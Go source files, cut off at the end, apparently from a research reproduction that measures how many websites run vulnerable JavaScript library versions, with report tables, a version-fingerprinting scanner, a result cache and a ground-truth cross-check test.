	for _, slug := range []string{"bootstrap", "prototype", "jquery-ui"} {
		versions := libs.TopVersions(slug, 5)
		series := map[string][]int{}
		for _, v := range versions {
			series[v] = libs.VersionSeries(slug, v)
		}
		seriesTable(w, "Figure 15: top-5 version usage — "+slug, weeks, versions,
			func(wk int) []string {
				row := make([]string, len(versions))
				for i, v := range versions {
					row[i] = num(series[v][wk])
				}
				return row
			})
	}
}

// Headlines prints the paper's headline findings as measured on this
// dataset, for EXPERIMENTS.md-style comparison.
func Headlines(w io.Writer, vuln *analysis.VulnPrevalence, delay *analysis.UpdateDelay,
	sri *analysis.SRI, flash *analysis.Flash, disc *analysis.Discontinued) {
	fmt.Fprintf(w, "\n== Headline findings (measured vs paper) ==\n")
	fmt.Fprintf(w, "vulnerable sites (CVE ranges):  %s   (paper: 41.2%%)\n", pct(vuln.MeanVulnerableShare(false)))
	fmt.Fprintf(w, "vulnerable sites (TVV ranges):  %s   (paper: 43.2%%)\n", pct(vuln.MeanVulnerableShare(true)))
	fmt.Fprintf(w, "mean vulns/page CVE vs TVV:     %.2f vs %.2f  (paper: 0.79 vs 0.97)\n",
		vuln.MeanVulnsPerSite(false), vuln.MeanVulnsPerSite(true))
	resCVE := delay.Result(false, false)
	resTVV := delay.Result(true, true)
	fmt.Fprintf(w, "update delay (CVE ranges):      %.1f days over %d updated windows (paper: 531.2 days, 25,337 sites)\n",
		resCVE.MeanDays, resCVE.Updated)
	fmt.Fprintf(w, "update delay (TVV, understated CVEs): %.1f days (paper: 701.2 days)\n", resTVV.MeanDays)
	fmt.Fprintf(w, "sites with >=1 ext lib w/o SRI: %s   (paper: 99.7%%)\n", pct(sri.MissingSRIShare()))
	fmt.Fprintf(w, "Flash sites after EOL:          %.0f   (paper: 3,553 of 1M)\n", flash.MeanPostEOL())
	fmt.Fprintf(w, "insecure AllowScriptAccess:     %s   (paper: 24.7%%)\n", pct(flash.MeanInsecureShare()))
	ever, migrated := disc.MigrationStats()
	fmt.Fprintf(w, "jquery-cookie users migrated:   %d of %d (paper: 39%% over 7 years)\n", migrated, ever)
}
