package report

import (
	"fmt"
	"io"

	"clientres/internal/analysis"
	"clientres/internal/poclab"
	"clientres/internal/vulndb"
)

// Table1 renders the top-15 library landscape (paper Table 1).
func Table1(w io.Writer, rows []analysis.Table1Row) {
	var out [][]string
	for _, r := range rows {
		name := r.Name
		if r.Discontinued {
			name += " (discontinued)"
		}
		out = append(out, []string{
			name, pct(r.MeanUsage), pct(r.InternalPct), pct(r.ExternalPct),
			pct(r.CDNPct), num(r.VersionsFound), num(r.TotalVersions),
			r.Dominant + " (" + pct(r.DominantPct) + ")", r.LatestSeen,
			num(r.VulnCount),
		})
	}
	Table(w, "Table 1: Top 15 JavaScript library usage, inclusion type, versions, vulnerabilities",
		[]string{"Library", "Usage", "Int.", "Ext.", "CDN", "Found", "Total", "Dominant", "Latest", "#Vul"},
		out)
}

// Table2 renders the advisory validation results (paper Table 2): the
// CVE-stated range, the poclab-computed TVV, the measured affected-site
// averages under both rulesets, and the accuracy classification.
func Table2(w io.Writer, findings []poclab.Finding, vuln *analysis.VulnPrevalence) {
	var out [][]string
	for _, f := range findings {
		a := f.Advisory
		patched := "N/A"
		if !a.Patched.IsZero() {
			patched = a.Patched.String()
		}
		tvvCell := "-"
		if !a.TrueRange.IsZero() {
			tvvCell = f.TVV.String()
		}
		cveSites := "-"
		tvvSites := "-"
		if vuln != nil {
			cveSites = f1(vuln.MeanAffected(a.ID, false))
			tvvSites = f1(vuln.MeanAffected(a.ID, true))
		}
		out = append(out, []string{
			a.Lib, a.ID, a.CVERange.String(), cveSites, tvvCell, tvvSites,
			patched, a.Disclosed.Format("2006-01-02"), string(a.Attack),
			f.Accuracy.String(),
		})
	}
	Table(w, "Table 2: Vulnerabilities of top-15 libraries — CVE ranges vs True Vulnerable Versions",
		[]string{"Library", "Advisory", "CVE range", "#Sites", "TVV (computed)", "#Sites(TVV)",
			"Patched", "Disclosed", "Attack", "CVE accuracy"},
		out)
}

// Table3 renders the browser Flash-support matrix (paper Table 3; encoded
// dataset — see DESIGN.md on the simulation boundary).
func Table3(w io.Writer) {
	var out [][]string
	for _, b := range vulndb.Browsers() {
		support := "N"
		if b.SupportsFlash {
			support = "Y"
		}
		out = append(out, []string{b.Name, fmt.Sprintf("%.2f%%", b.MarketSharePC), support, b.Engine})
	}
	Table(w, "Table 3: Top-10 desktop browsers, market share, Flash support",
		[]string{"Browser", "Share", "Flash", "Engine"}, out)
}

// Table4 renders the WordPress CVE exposure (paper Table 4).
func Table4(w io.Writer, rows []analysis.Table4Row) {
	var out [][]string
	for _, r := range rows {
		a := r.Advisory
		out = append(out, []string{
			a.ID, a.Disclosed.Format("2006-01-02"), a.Range.String(),
			a.Patched.String(), a.PatchDate.Format("2006-01-02"),
			f1(r.MeanAffected),
		})
	}
	Table(w, "Table 4: Top-10 disclosed CVEs for WordPress",
		[]string{"CVE", "Disclosed", "Affected", "Patched", "Patch date", "Mean #sites"}, out)
}

// Table5 renders the top CDNs per library (paper Table 5).
func Table5(w io.Writer, libs *analysis.LibraryStats) {
	var out [][]string
	for _, lib := range vulndb.Libraries() {
		hosts := libs.TopHosts(lib.Slug, 3)
		for i, hc := range hosts {
			name := ""
			if i == 0 {
				name = lib.Name
			}
			out = append(out, []string{name, hc.Host, pct(hc.Share)})
		}
	}
	Table(w, "Table 5: Top 3 external hosts per JavaScript library",
		[]string{"Library", "Host", "Share of ext."}, out)
}

// Table6 renders the version-control-hosted inclusions (paper Table 6).
func Table6(w io.Writer, sri *analysis.SRI) {
	var out [][]string
	for _, site := range sri.TopVCSites(25) {
		for i, host := range site.Hosts {
			d, r := "", ""
			if i == 0 {
				d, r = site.Domain, num(site.Rank)
			}
			out = append(out, []string{d, r, host})
		}
	}
	Table(w, "Table 6 (left): top-ranked sites loading libraries from version-control hosts",
		[]string{"Website", "Rank", "Host"}, out)
	var agg [][]string
	for _, hc := range sri.TopVCHosts(15) {
		agg = append(agg, []string{hc.Host, num(hc.Count)})
	}
	Table(w, "Table 6 (right): most-used version-control hosts",
		[]string{"Host", "Inclusions"}, agg)
}
