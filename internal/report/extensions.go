package report

import (
	"fmt"
	"io"
	"sort"

	"clientres/internal/analysis"
)

// Extensions renders the measurements that go beyond the paper's published
// evaluation — the items its Section 9 lists as future work: update
// regressions (patched sites rolling back and re-opening vulnerability
// windows) and exploitability-aware prevalence (excluding advisories that
// require site-specific preconditions).
func Extensions(w io.Writer, vuln *analysis.VulnPrevalence, reg *analysis.Regressions) {
	fmt.Fprintf(w, "\n== Extensions (the paper's Section 9 future work) ==\n")

	fmt.Fprintf(w, "exploitability-aware prevalence: %s of sites carry a vulnerability\n",
		pct(vuln.MeanReadilyExploitableShare()))
	fmt.Fprintf(w, "  without Section 9 preconditions (vs %s counting every advisory)\n",
		pct(vuln.MeanVulnerableShare(true)))

	// The per-year CVE/TVV gap (the paper: 0.1 points in 2018 growing to
	// 2.9 in 2022).
	var yearRows [][]string
	for _, ys := range vuln.YearlyShares() {
		yearRows = append(yearRows, []string{
			num(ys.Year), pct(ys.CVE), pct(ys.TVV), pct(ys.TVV - ys.CVE),
		})
	}
	Table(w, "Vulnerable-site share per year: CVE vs corrected (TVV) ranges",
		[]string{"Year", "CVE", "TVV", "gap"}, yearRows)

	// High-profile sites vulnerable only under corrected ranges (the
	// paper's microsoft.com / docusign.com examples).
	if sites := vuln.TopUndisclosedSites(10); len(sites) > 0 {
		var rows [][]string
		for _, s := range sites {
			rows = append(rows, []string{s.Domain, num(s.Rank)})
		}
		Table(w, "Top-ranked sites vulnerable ONLY under corrected (TVV) ranges",
			[]string{"Website", "Rank"}, rows)
	}

	if reg == nil {
		return
	}
	fmt.Fprintf(w, "update regressions: %d domains rolled a library update back during the study\n",
		reg.RegressedDomains())
	fmt.Fprintf(w, "re-opened vulnerability windows: %d (site, advisory) pairs left a\n",
		reg.TotalReopened())
	fmt.Fprintf(w, "  vulnerable range and later regressed back into it\n")

	if downs := reg.DowngradesByLibrary(); len(downs) > 0 {
		var rows [][]string
		for _, lc := range downs {
			rows = append(rows, []string{lc.Slug, num(lc.Count)})
		}
		Table(w, "Extension: observed version downgrades per library",
			[]string{"Library", "Downgrade events"}, rows)
	}
	if reopened := reg.ReopenedWindows(); len(reopened) > 0 {
		ids := make([]string, 0, len(reopened))
		for id := range reopened {
			ids = append(ids, id)
		}
		sort.Slice(ids, func(i, j int) bool {
			if reopened[ids[i]] != reopened[ids[j]] {
				return reopened[ids[i]] > reopened[ids[j]]
			}
			return ids[i] < ids[j]
		})
		var rows [][]string
		for _, id := range ids {
			rows = append(rows, []string{id, num(reopened[id])})
		}
		Table(w, "Extension: re-opened vulnerability windows per advisory",
			[]string{"Advisory", "Re-opened"}, rows)
	}
}
