// Content-signature fingerprinting. URL-based version inference (this
// package's Page) goes blind the moment a site bundles its dependencies:
// the individual jquery-1.12.4.min.js tags collapse into one
// bundle.<contenthash>.js whose name carries no library identity at all.
// What survives bundling — and minification — is the libraries' own code:
// version-bearing string literals and property assignments (jQuery's
// `jquery:"1.12.4"` support field, Underscore's `_.VERSION="1.8.3"`), and,
// when the bundler keeps comments, the /*! ... */ license banners. This
// file is the Retire.js-style scanner over those discriminators: a
// per-library anchor table, each match validated against the vulnerability
// database's release catalog, with longest-known-release tie-breaking for
// open-ended banner matches.
//
// Like the URL tables above, the anchor table shares no code with the page
// generator; the accuracy harness validates that scanning generated
// bundles recovers the generator's ground truth.
package fingerprint

import (
	"sort"
	"strings"
	"sync"

	"clientres/internal/semver"
	"clientres/internal/vulndb"
)

// SignatureHit is one (library, version) recovered from script content.
type SignatureHit struct {
	// Slug is the canonical library identifier.
	Slug string
	// Version is the release the discriminator pinned. Always a catalog
	// member: candidates outside the library's release set are rejected,
	// the same no-invented-versions property the URL path has.
	Version semver.Version
	// Pos is the byte offset of the discriminator in the scanned body;
	// hits are reported in ascending Pos order.
	Pos int
	// Banner marks a license-banner match; false means a code-level
	// discriminator, which survives banner-stripping minification.
	Banner bool
}

// anchor is one content discriminator: an anchored prefix immediately
// preceding a version literal. Code anchors terminate at a closing quote;
// banner anchors are open-ended digit runs resolved by longest-known-
// release tie-breaking.
type anchor struct {
	slug   string
	prefix string
	banner bool
}

// codeAnchors match version-bearing statements that survive minification.
// Each prefix is chosen to be collision-free against every other library's
// emission shape (case and punctuation disambiguate, e.g. Bootstrap's
// `VERSION:"` never matches Underscore's `_.VERSION="`); the catalog-
// membership check below is the second line of defense. swfobject and
// jquery-cookie have no code anchor — their real sources carry the version
// only in the banner, which is what makes them measurably undetectable in
// banner-stripped bundles.
var codeAnchors = []anchor{
	{slug: "jquery", prefix: `jquery:"`},
	{slug: "jquery-ui", prefix: `ui.version="`},
	{slug: "jquery-migrate", prefix: `migrateVersion="`},
	{slug: "bootstrap", prefix: `VERSION:"`},
	{slug: "modernizr", prefix: `_version:"`},
	{slug: "underscore", prefix: `_.VERSION="`},
	{slug: "isotope", prefix: `Isotope.version="`},
	{slug: "popper", prefix: `Popper.version="`},
	{slug: "moment", prefix: `hooks.version="`},
	{slug: "js-cookie", prefix: `Cookies.version="`},
	{slug: "requirejs", prefix: `req.version="`},
	{slug: "prototype", prefix: `Prototype={Version:"`},
	{slug: "polyfill", prefix: `polyfill.version="`},
}

// bannerNames are the /*! banner spellings of the top-15 libraries. A
// banner anchor is "/*! <name> v"; the trailing "v" plus the following
// digit keep "jQuery v1..." from matching "jQuery UI v1...".
var bannerNames = map[string]string{
	"jquery":         "jQuery",
	"jquery-ui":      "jQuery UI",
	"jquery-migrate": "jQuery Migrate",
	"jquery-cookie":  "jQuery Cookie Plugin",
	"js-cookie":      "JavaScript Cookie",
	"bootstrap":      "Bootstrap",
	"modernizr":      "Modernizr",
	"underscore":     "Underscore.js",
	"isotope":        "Isotope",
	"popper":         "Popper.js",
	"moment":         "Moment.js",
	"requirejs":      "RequireJS",
	"swfobject":      "SWFObject",
	"prototype":      "Prototype",
	"polyfill":       "Polyfill",
}

// maxVersionLen bounds how far past an anchor the scanner reads: longer
// candidate runs cannot be release strings and only appear in adversarial
// input.
const maxVersionLen = 32

var (
	anchorsOnce sync.Once
	allAnchors  []anchor
	// releaseIdx maps slug → exact release string → parsed version; the
	// catalog-membership check that keeps generic-looking anchors from
	// inventing versions.
	releaseIdx map[string]map[string]semver.Version
)

func buildAnchors() {
	allAnchors = append([]anchor(nil), codeAnchors...)
	releaseIdx = make(map[string]map[string]semver.Version, len(bannerNames))
	for slug, name := range bannerNames {
		allAnchors = append(allAnchors, anchor{slug: slug, prefix: "/*! " + name + " v", banner: true})
		idx := make(map[string]semver.Version)
		if cat, ok := vulndb.CatalogFor(slug); ok {
			for _, rel := range cat.Releases {
				idx[rel.Version.String()] = rel.Version
			}
		}
		releaseIdx[slug] = idx
	}
	// Deterministic anchor order (bannerNames is a map).
	sort.SliceStable(allAnchors[len(codeAnchors):], func(i, j int) bool {
		a := allAnchors[len(codeAnchors)+i]
		b := allAnchors[len(codeAnchors)+j]
		return a.slug < b.slug
	})
}

// HasCodeSignature reports whether a library carries a code-level
// discriminator — i.e. whether it stays detectable in banner-stripped
// bundles. Banner-only libraries (swfobject, jquery-cookie) return false.
func HasCodeSignature(slug string) bool {
	for _, a := range codeAnchors {
		if a.slug == slug {
			return true
		}
	}
	return false
}

// ScanScript recovers (library, version) hits from one script body — a
// bundle, a standalone .min.js, or arbitrary bytes (the scanner is pure
// substring work over bytes; NULs and invalid UTF-8 are fine). Hits are
// deduplicated per library (code evidence beats banner evidence, then the
// earliest occurrence wins) and ordered by body position.
func ScanScript(body string) []SignatureHit {
	anchorsOnce.Do(buildAnchors)
	var out []SignatureHit
	byslug := map[string]int{} // slug → index into out
	for _, a := range allAnchors {
		from := 0
		for {
			i := strings.Index(body[from:], a.prefix)
			if i < 0 {
				break
			}
			pos := from + i
			start := pos + len(a.prefix)
			from = start
			ver, ok := resolveCandidate(a, body, start)
			if !ok {
				continue
			}
			hit := SignatureHit{Slug: a.slug, Version: ver, Pos: pos, Banner: a.banner}
			if j, seen := byslug[a.slug]; seen {
				if better(hit, out[j]) {
					out[j] = hit
				}
				continue
			}
			byslug[a.slug] = len(out)
			out = append(out, hit)
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Pos != out[j].Pos {
			return out[i].Pos < out[j].Pos
		}
		return out[i].Slug < out[j].Slug
	})
	return out
}

// better prefers code evidence over banner evidence, then earlier
// positions.
func better(a, b SignatureHit) bool {
	if a.Banner != b.Banner {
		return !a.Banner
	}
	return a.Pos < b.Pos
}

// resolveCandidate reads the version literal following an anchor and
// validates it against the library's release catalog.
func resolveCandidate(a anchor, body string, start int) (semver.Version, bool) {
	idx := releaseIdx[a.slug]
	if a.banner {
		// Open-ended digit run; tie-break to the longest known release
		// prefix, so "SWFObject v2.2.1-nightly" still resolves to 2.2 and
		// a run that straddles no release resolves to nothing.
		end := start
		limit := start + maxVersionLen
		for end < len(body) && end < limit {
			c := body[end]
			if (c < '0' || c > '9') && c != '.' {
				break
			}
			end++
		}
		cand := body[start:end]
		for cand != "" {
			if v, ok := idx[cand]; ok {
				return v, true
			}
			dot := strings.LastIndexByte(cand, '.')
			if dot < 0 {
				break
			}
			cand = cand[:dot]
		}
		return semver.Version{}, false
	}
	// Code anchors: exact literal up to the closing quote.
	end := strings.IndexByte(body[start:min(len(body), start+maxVersionLen)], '"')
	if end < 0 {
		return semver.Version{}, false
	}
	v, ok := idx[body[start:start+end]]
	return v, ok
}

// ScriptBody pairs a script's src URL (as written on the page) with its
// fetched content, for PageWithScripts.
type ScriptBody struct {
	URL  string
	Body string
}

// PageWithScripts fingerprints a page the bundle-aware way: the URL-based
// Page detection first, then the content-signature scanner over each
// fetched script body, merged gap-filling-only — a signature hit upgrades
// a version-blind URL hit of the same library and adds libraries the URLs
// never revealed (bundled dependencies), but never contradicts URL
// evidence. On pages whose URLs already tell the whole story the result
// is identical to Page, which is what keeps plain-mode runs byte-stable
// whether body scanning is on or off.
func PageWithScripts(html, pageHost string, scripts []ScriptBody) Detection {
	return mergeScans(Page(html, pageHost), scripts, ScanScript)
}

// mergeScans folds per-script signature hits into a detection, copy-on-
// write: det's Libraries slice may be shared (memo cache), so it is cloned
// before any mutation.
func mergeScans(det Detection, scripts []ScriptBody, scan func(string) []SignatureHit) Detection {
	var libs []LibraryHit
	cloned := false
	ensure := func() {
		if !cloned {
			libs = append([]LibraryHit(nil), det.Libraries...)
			cloned = true
		}
	}
	find := func(slug string) int {
		if cloned {
			for i := range libs {
				if libs[i].Slug == slug {
					return i
				}
			}
			return -1
		}
		for i := range det.Libraries {
			if det.Libraries[i].Slug == slug {
				return i
			}
		}
		return -1
	}
	for _, sb := range scripts {
		if sb.Body == "" {
			continue
		}
		for _, hit := range scan(sb.Body) {
			if i := find(hit.Slug); i >= 0 {
				existing := det.Libraries
				if cloned {
					existing = libs
				}
				if !existing[i].Version.IsZero() {
					continue // URL evidence stands
				}
				ensure()
				libs[i].Version = hit.Version
				libs[i].ViaSignature = true
				continue
			}
			ensure()
			libs = append(libs, LibraryHit{
				Slug: hit.Slug, Known: true, Version: hit.Version,
				ViaSignature: true, SourceURL: sb.URL,
			})
		}
	}
	if cloned {
		det.Libraries = libs
	}
	return det
}
