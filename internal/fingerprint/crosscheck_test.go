package fingerprint

import (
	"testing"

	"clientres/internal/cdn"
	"clientres/internal/webgen"
)

// TestRecoversGroundTruth is the pipeline-fidelity check: detection over
// generator-rendered pages must recover the generator's ground truth. The
// generator and this package share no code — URLs are built by internal/cdn
// and parsed back here by independent pattern tables.
func TestRecoversGroundTruth(t *testing.T) {
	e := webgen.New(webgen.Config{Domains: 600, Seed: 3})
	weeks := []int{0, 60, 120, 180}
	pages, libChecks := 0, 0
	for i := range e.Sites {
		host := e.Sites[i].Domain.Name
		for _, w := range weeks {
			truth := e.Truth(i, w)
			if !truth.Accessible {
				continue
			}
			html, status := e.PageHTML(i, w)
			if status != 200 {
				t.Fatalf("site %d week %d: truth accessible, status %d", i, w, status)
			}
			pages++
			det := Page(html, host)

			// Every truth library must be detected with the right version
			// (except version-control-hosted inclusions, which carry no
			// version in their URL by design).
			for _, lib := range truth.Libs {
				hit, ok := det.Lib(lib.Slug)
				if !ok {
					t.Errorf("site %d week %d: %s not detected", i, w, lib.Slug)
					continue
				}
				libChecks++
				vcHosted := lib.External && cdn.IsVersionControl(lib.Host)
				switch {
				case vcHosted:
					if !hit.Version.IsZero() {
						t.Errorf("site %d week %d: %s VC-hosted but version %s detected",
							i, w, lib.Slug, hit.Version)
					}
				case !hit.Version.Equal(lib.Version):
					t.Errorf("site %d week %d: %s version %s, truth %s",
						i, w, lib.Slug, hit.Version, lib.Version)
				}
				if hit.External != lib.External {
					t.Errorf("site %d week %d: %s external=%v, truth %v",
						i, w, lib.Slug, hit.External, lib.External)
				}
				if lib.External && hit.Host != lib.Host {
					t.Errorf("site %d week %d: %s host %q, truth %q",
						i, w, lib.Slug, hit.Host, lib.Host)
				}
				if hit.SRI != lib.SRI || hit.Crossorigin != lib.Crossorigin {
					t.Errorf("site %d week %d: %s SRI/crossorigin (%v,%q), truth (%v,%q)",
						i, w, lib.Slug, hit.SRI, hit.Crossorigin, lib.SRI, lib.Crossorigin)
				}
			}

			// No phantom known-library detections.
			for _, hit := range det.Libraries {
				if !hit.Known {
					continue
				}
				if _, ok := truth.Lib(hit.Slug); !ok {
					t.Errorf("site %d week %d: phantom detection %s (%s)",
						i, w, hit.Slug, hit.SourceURL)
				}
			}

			// Tail libraries recovered by name and version.
			for _, tl := range truth.Tail {
				hit, ok := det.Lib(tl.Name)
				if !ok {
					t.Errorf("site %d week %d: tail %s not detected", i, w, tl.Name)
					continue
				}
				if hit.Version.String() != tl.Version {
					t.Errorf("site %d week %d: tail %s version %s, truth %s",
						i, w, tl.Name, hit.Version, tl.Version)
				}
			}

			// Platform and resource flags.
			if !truth.WordPress.IsZero() {
				if !det.WordPress.Equal(truth.WordPress) {
					t.Errorf("site %d week %d: WP %s, truth %s", i, w, det.WordPress, truth.WordPress)
				}
			} else if !det.WordPress.IsZero() {
				t.Errorf("site %d week %d: phantom WordPress %s", i, w, det.WordPress)
			}
			if (truth.Flash != nil) != (det.Flash != nil) {
				t.Errorf("site %d week %d: flash truth %v det %v", i, w, truth.Flash != nil, det.Flash != nil)
			}
			if truth.Flash != nil && det.Flash != nil {
				if det.Flash.ScriptAccessParam != truth.Flash.ScriptAccessParam ||
					det.Flash.Always != truth.Flash.Always {
					t.Errorf("site %d week %d: flash params det %+v truth %+v",
						i, w, det.Flash, truth.Flash)
				}
				// Visibility recovered from the off-screen styling.
				if det.Flash.Visible != truth.Flash.Visible {
					t.Errorf("site %d week %d: flash visible det %v truth %v",
						i, w, det.Flash.Visible, truth.Flash.Visible)
				}
			}
			if det.Resources.JavaScript != truth.HasJS {
				t.Errorf("site %d week %d: JS flag det %v truth %v", i, w,
					det.Resources.JavaScript, truth.HasJS)
			}
			if det.Resources.CSS != truth.UsesCSS || det.Resources.Favicon != truth.UsesFavicon {
				t.Errorf("site %d week %d: CSS/favicon flags mismatch", i, w)
			}
			if det.Resources.XML != truth.UsesXML || det.Resources.SVG != truth.UsesSVG ||
				det.Resources.AXD != truth.UsesAXD {
				t.Errorf("site %d week %d: XML/SVG/AXD flags mismatch", i, w)
			}
			if det.Resources.ImportedHTML != truth.UsesImportedHTML {
				t.Errorf("site %d week %d: imported-HTML det %v truth %v", i, w,
					det.Resources.ImportedHTML, truth.UsesImportedHTML)
			}
		}
	}
	if pages < 500 || libChecks < 1000 {
		t.Fatalf("cross-check too small: %d pages, %d lib checks", pages, libChecks)
	}
}
