package fingerprint

// Memoized fingerprinting. The paper's central observation is that the
// web changes slowly — mean update delay 531 days — so in a weekly crawl
// the overwhelming majority of landing pages are byte-identical to the
// previous week's fetch. Re-tokenizing and re-matching the regex ruleset
// on an unchanged page produces an identical Detection; a content-hash
// cache turns that repeat work into a map lookup.

// memoKey identifies a (page content, serving host) pair. The content is
// keyed by FNV-1a 64 hash plus length; the host participates because
// Page's internal/external classification depends on it.
type memoKey struct {
	hash uint64
	n    int
	host string
}

// Memo caches Page results by page content hash. It is NOT safe for
// concurrent use — the intended deployment is one Memo per collection
// shard (domains are shard-disjoint, so caches never need to be shared;
// identical CDN boilerplate appearing on two shards just warms twice).
//
// Cached Detections are returned by value but share their Libraries
// slice and Flash pointer across hits; callers must treat a Detection
// from Page as read-only, which every consumer in this module already
// does (the analysis converters copy fields out).
type Memo struct {
	cap          int
	m            map[memoKey]Detection
	hits, misses uint64

	// scans caches content-signature results per script body, keyed by
	// content hash alone — a scan has no host dependence, so the same CDN
	// bundle fetched via two sites warms once. Script bodies change even
	// less often than pages (a bundle's contenthash name pins its bytes),
	// so the 21× unchanged-week fast path survives bundle scanning.
	scans                map[scanKey][]SignatureHit
	scanHits, scanMisses uint64
}

// scanKey identifies script content by FNV-1a 64 hash plus length.
type scanKey struct {
	hash uint64
	n    int
}

// DefaultMemoEntries bounds a Memo when NewMemo is given no capacity. At
// ~a few hundred bytes per cached Detection this keeps a full cache in
// the tens of MB per shard.
const DefaultMemoEntries = 1 << 16

// NewMemo returns a memoizing fingerprint cache holding at most capacity
// entries (capacity <= 0 means DefaultMemoEntries). When full, the cache
// resets wholesale — an epoch eviction: cheap, allocation-free between
// epochs, and harmless here because the working set (one week's distinct
// pages per shard) either fits or the cache was undersized anyway.
func NewMemo(capacity int) *Memo {
	if capacity <= 0 {
		capacity = DefaultMemoEntries
	}
	return &Memo{cap: capacity, m: make(map[memoKey]Detection)}
}

// Page returns the fingerprint of an HTML document, from cache when the
// same (content, host) pair was seen before. A nil Memo is valid and
// simply never caches. Semantics are identical to the package-level Page
// for every input (property-tested against randomized rendered pages).
func (mc *Memo) Page(html, pageHost string) Detection {
	if mc == nil {
		return Page(html, pageHost)
	}
	key := memoKey{hash: fnv1a64(html), n: len(html), host: pageHost}
	if det, ok := mc.m[key]; ok {
		mc.hits++
		return det
	}
	det := Page(html, pageHost)
	if len(mc.m) >= mc.cap {
		mc.m = make(map[memoKey]Detection)
	}
	mc.m[key] = det
	mc.misses++
	return det
}

// ScanScript returns the content-signature hits for one script body, from
// cache when the same content was scanned before. A nil Memo is valid and
// simply never caches. The returned slice is shared cache state: callers
// must treat it as read-only (mergeScans does).
func (mc *Memo) ScanScript(body string) []SignatureHit {
	if mc == nil {
		return ScanScript(body)
	}
	key := scanKey{hash: fnv1a64(body), n: len(body)}
	if hits, ok := mc.scans[key]; ok {
		mc.scanHits++
		return hits
	}
	hits := ScanScript(body)
	if mc.scans == nil {
		mc.scans = make(map[scanKey][]SignatureHit)
	} else if len(mc.scans) >= mc.cap {
		// Same epoch eviction as the page cache: reset wholesale.
		mc.scans = make(map[scanKey][]SignatureHit)
	}
	mc.scans[key] = hits
	mc.scanMisses++
	return hits
}

// PageWithScripts is the memoized form of the package-level
// PageWithScripts: the page detection comes from the page cache, each
// script body's signature scan from the scan cache, and the merge runs
// copy-on-write so cached Detections are never mutated. Semantics are
// identical to the package-level function for every input.
func (mc *Memo) PageWithScripts(html, pageHost string, scripts []ScriptBody) Detection {
	if mc == nil {
		return PageWithScripts(html, pageHost, scripts)
	}
	return mergeScans(mc.Page(html, pageHost), scripts, mc.ScanScript)
}

// Stats reports cache hits and misses since creation.
func (mc *Memo) Stats() (hits, misses uint64) {
	if mc == nil {
		return 0, 0
	}
	return mc.hits, mc.misses
}

// ScanStats reports body-scan cache hits and misses since creation.
func (mc *Memo) ScanStats() (hits, misses uint64) {
	if mc == nil {
		return 0, 0
	}
	return mc.scanHits, mc.scanMisses
}

// fnv1a64 is FNV-1a over a string, inlined to avoid the hash/fnv
// allocation and string→[]byte copy on the per-page hot path.
func fnv1a64(s string) uint64 {
	const (
		offset64 = 14695981039346656037
		prime64  = 1099511628211
	)
	h := uint64(offset64)
	for i := 0; i < len(s); i++ {
		h ^= uint64(s[i])
		h *= prime64
	}
	return h
}
