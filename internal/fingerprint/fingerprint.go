// Package fingerprint identifies client-side resources and their versions
// in static HTML, standing in for the Wappalyzer tool the paper used
// (Section 4.2).
//
// Like Wappalyzer it works from markup alone: script/link URLs, their file
// names and path shapes, query-string cache busters, meta generator tags,
// and Flash object/embed markup. It shares no code with the page generator —
// the study's pipeline tests validate that detection over generated pages
// recovers the generator's ground truth.
package fingerprint

import (
	"net/url"
	"regexp"
	"strings"

	"clientres/internal/cdn"
	"clientres/internal/htmlx"
	"clientres/internal/semver"
)

// LibraryHit is one detected JavaScript library inclusion.
type LibraryHit struct {
	// Slug is the canonical library identifier ("jquery"); for libraries
	// outside the known top-15 it is the normalized file base name.
	Slug string
	// Known marks slugs from the known-library table (the top 15).
	Known bool
	// Version is the detected version; zero when the URL carries none
	// (typical for version-control-hosted files).
	Version semver.Version
	// External marks inclusion from another host; Host is that host.
	External bool
	Host     string
	// SRI marks an integrity attribute on the tag; Crossorigin is the
	// crossorigin attribute value ("" when absent).
	SRI         bool
	Crossorigin string
	// ViaSignature marks hits whose library or version came from the
	// content-signature scanner over a fetched script body (see
	// signature.go) rather than from the URL alone — the only way bundled
	// dependencies are ever detected.
	ViaSignature bool
	// SourceURL is the raw src attribute, for diagnostics.
	SourceURL string
}

// FlashHit captures detected Adobe Flash embedding.
type FlashHit struct {
	// ScriptAccessParam marks an explicit AllowScriptAccess parameter;
	// Always marks the insecure "always" option (Section 8).
	ScriptAccessParam bool
	Always            bool
	// ViaSWFObject marks script-driven embedding through SWFObject.
	ViaSWFObject bool
	// Visible reports whether any Flash embed actually renders on-page;
	// false means every embed is positioned off-screen or hidden (the
	// paper's "invisible cases" of Section 8).
	Visible bool
}

// Resources flags which of the paper's top-8 resource types a page uses
// (Figure 2b).
type Resources struct {
	JavaScript, CSS, Favicon, ImportedHTML, XML, SVG, Flash, AXD bool
}

// Detection is the full fingerprint of one page.
type Detection struct {
	Libraries []LibraryHit
	// WordPress is the platform version from the generator meta tag (zero
	// when absent); WordPressSeen is true when WP path markers appear even
	// without a version.
	WordPress     semver.Version
	WordPressSeen bool
	Flash         *FlashHit
	Resources     Resources
	// ScriptCount is the total number of <script> tags.
	ScriptCount int
}

// Lib returns the first hit for a slug.
func (d Detection) Lib(slug string) (LibraryHit, bool) {
	for _, h := range d.Libraries {
		if h.Slug == slug {
			return h, true
		}
	}
	return LibraryHit{}, false
}

// knownBases maps file base names (lowercase, ".min"/"-min"/".pkgd"
// stripped) to canonical slugs. Order-independent; longest-match is handled
// by normalization.
var knownBases = map[string]string{
	"jquery":         "jquery",
	"jquery-ui":      "jquery-ui",
	"jquery-migrate": "jquery-migrate",
	"jquery.cookie":  "jquery-cookie",
	"js.cookie":      "js-cookie",
	"bootstrap":      "bootstrap",
	"modernizr":      "modernizr",
	"underscore":     "underscore",
	"isotope":        "isotope",
	"popper":         "popper",
	"moment":         "moment",
	"require":        "requirejs",
	"requirejs":      "requirejs",
	"swfobject":      "swfobject",
	"prototype":      "prototype",
	"polyfill":       "polyfill",
}

// knownPathSlugs recognizes libraries from CDN directory shapes even when
// the file name alone is ambiguous (e.g. /ajax/libs/jquery-ui/1.12.1/...).
var knownPathSlugs = []string{
	"jquery-ui", "jquery-migrate", "jquery-cookie", "js-cookie",
	"jquery", "bootstrap", "modernizr", "underscore", "isotope",
	"popper", "moment", "requirejs", "swfobject", "prototype", "polyfill",
}

var (
	// versionSeg matches a path segment that is a version ("1.12.4", "v3").
	versionSeg = regexp.MustCompile(`^v?\d+(\.\d+)*$`)
	// fileVersion matches "-1.12.4" / "-2.2" / "-3" suffixes on file bases;
	// the candidate is validated by semver.Parse before it is trusted.
